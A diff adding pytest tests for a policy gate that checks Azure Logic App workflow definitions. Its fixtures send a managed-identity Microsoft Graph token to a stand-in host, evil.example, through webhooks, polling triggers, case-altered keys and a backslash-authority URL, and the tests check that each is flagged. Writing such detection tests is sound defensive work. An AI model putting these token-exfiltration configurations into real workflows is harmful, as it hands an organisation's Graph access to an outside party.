@@ -348,6 +348,145 @@ def test_a_literal_host_before_the_expression_passes():
     assert found(preview_with_pack(program)) == []
 
 
+EVIL = "https://evil.example/collect"
+MSI_GRAPH = {"type": "ManagedServiceIdentity", "audience": "https://graph.microsoft.com"}
+
+
+def _with(name, entry, where="actions"):
+    definition = copy.deepcopy(GROUPS)
+    definition.setdefault(where, {})[name] = entry
+    return definition
+
+
+TOKEN_ELSEWHERE = {
+    "webhook-subscribe": _with(
+        "Hook",
+        {
+            "type": "HttpWebhook",
+            "runAfter": {},
+            "inputs": {"subscribe": {"method": "POST", "uri": EVIL, "authentication": MSI_GRAPH}, "unsubscribe": {}},
+        },
+    ),
+    "webhook-unsubscribe": _with(
+        "Hook",
+        {
+            "type": "HttpWebhook",
+            "runAfter": {},
+            "inputs": {
+                "subscribe": {"method": "POST", "uri": "https://graph.microsoft.com/v1.0/subscriptions"},
+                "unsubscribe": {"method": "DELETE", "uri": EVIL, "authentication": MSI_GRAPH},
+            },
+        },
+    ),
+    "polling-trigger": _with(
+        "Poll",
+        {
+            "type": "Http",
+            "recurrence": {"frequency": "Hour", "interval": 1},
+            "inputs": {"method": "GET", "uri": EVIL, "authentication": MSI_GRAPH},
+        },
+        where="triggers",
+    ),
+    "graph-by-app-id": _with_action(
+        {
+            "method": "POST",
+            "uri": EVIL,
+            "authentication": {**MSI_GRAPH, "audience": "00000003-0000-0000-c000-000000000000"},
+        }
+    ),
+    "graph-subdomain": _with_action(
+        {
+            "method": "POST",
+            "uri": EVIL,
+            "authentication": {**MSI_GRAPH, "audience": "https://canary.graph.microsoft.com"},
+        }
+    ),
+    "capitalised-keys": _with(
+        "Leak", {"Type": "Http", "RunAfter": {}, "Inputs": {"Method": "POST", "URI": EVIL, "Authentication": MSI_GRAPH}}
+    ),
+    "padded-type": _with(
+        "Leak", {"type": " Http", "runAfter": {}, "inputs": {"uri": EVIL, "authentication": MSI_GRAPH}}
+    ),
+}
+
+
+@pytest.mark.parametrize("definition", list(TOKEN_ELSEWHERE.values()), ids=list(TOKEN_ELSEWHERE))
+def test_a_managed_identity_graph_token_sent_elsewhere_is_a_violation_wherever_the_request_is(definition):
+    (v,) = found(preview_with_pack(lambda: workflow(definition=definition)))
+    assert "token to another host (evil.example)" in v.message
+
+
+CANNOT_TELL = {
+    "audience-expression": {**MSI_GRAPH, "audience": "@{'https://graph.microsoft.com'}"},
+    "audience-parameter": {**MSI_GRAPH, "audience": "@parameters('aud')"},
+    "no-audience": {"type": "ManagedServiceIdentity"},
+}
+
+
+@pytest.mark.parametrize("auth", list(CANNOT_TELL.values()), ids=list(CANNOT_TELL))
+def test_a_managed_identity_token_for_an_audience_the_gate_cannot_tell_sent_elsewhere_is_unverified(auth):
+    definition = _with_action({"method": "POST", "uri": EVIL, "authentication": auth})
+    (v,) = found(preview_with_pack(lambda: workflow(definition=definition)))
+    assert "cannot verify" in v.message and "audience" in v.message
+
+
+@pytest.mark.parametrize("what", ["authentication", "audience"])
+def test_an_authentication_or_audience_unknown_at_preview_is_unverified(what):
+    def program():
+        anchor = workflow("anchor")
+        if what == "authentication":
+            auth = later(anchor.id, MSI_GRAPH)
+        else:
+            auth = {"type": "ManagedServiceIdentity", "audience": later(anchor.id, MSI_GRAPH["audience"])}
+        workflow(definition=_with_action({"method": "POST", "uri": EVIL, "authentication": auth}))
+
+    (v,) = found(preview_with_pack(program))
+    assert "cannot verify" in v.message and what in v.message
+
+
+@pytest.mark.parametrize(
+    "entry, words",
+    [
+        (
+            {
+                "type": "Http",
+                "inputs": {"uri": "https://evil.example\\@graph.microsoft.com/x", "authentication": MSI_GRAPH},
+            },
+            "decides its host",
+        ),
+        (
+            {
+                "type": "Function",
+                "inputs": {
+                    "function": {"id": "/subscriptions/0/resourceGroups/e/providers/Microsoft.Web/sites/f"},
+                    "authentication": MSI_GRAPH,
+                },
+            },
+            "an endpoint the gate does not read",
+        ),
+        (
+            {"type": "Compose", "Type": "Http", "inputs": {"uri": EVIL, "authentication": MSI_GRAPH}},
+            "differ only in case",
+        ),
+    ],
+    ids=["backslash-authority", "function-action", "two-spellings-of-type"],
+)
+def test_a_managed_identity_call_the_gate_cannot_read_is_unverified(entry, words):
+    definition = _with("Leak", {"runAfter": {}, **entry})
+    (v,) = found(preview_with_pack(lambda: workflow(definition=definition)))
+    assert "cannot verify" in v.message and words in v.message
+
+
+def test_a_definition_whose_actions_are_unknown_at_preview_is_unverified_even_without_write_roles():
+    def program():
+        anchor = workflow("anchor")
+        definition = {**copy.deepcopy(GROUPS), "actions": later(anchor.id, GROUPS["actions"])}
+        workflow(definition=definition)
+
+    (v,) = found(preview_with_pack(program))
+    assert "cannot verify" in v.message and "part of the definition is unknown" in v.message
+
+
 def test_unknown_authentication_to_graph_is_unverified_and_managed_identity_passes():
     def program():
         wf0 = workflow("wf0")
